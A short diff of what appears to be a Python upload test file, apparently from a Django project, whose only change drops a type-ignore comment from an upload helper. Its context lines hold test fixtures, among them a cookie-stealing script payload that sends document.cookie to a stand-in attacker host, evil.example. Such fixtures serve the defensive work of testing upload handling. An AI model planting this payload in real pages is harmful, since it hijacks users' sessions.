@@ -16,7 +16,7 @@ HTML = b"<html><body><script>fetch('/ru/accounts/').then(r=>r.text())</script></
 SCRIPT = b"document.location='https://evil.example/?c='+document.cookie;"
 
 
-def upload(name: str, content: bytes, content_type: str = "application/octet-stream"):  # type: ignore[no-untyped-def]
+def upload(name: str, content: bytes, content_type: str = "application/octet-stream"):
     return SimpleUploadedFile(name, content, content_type)
 
 
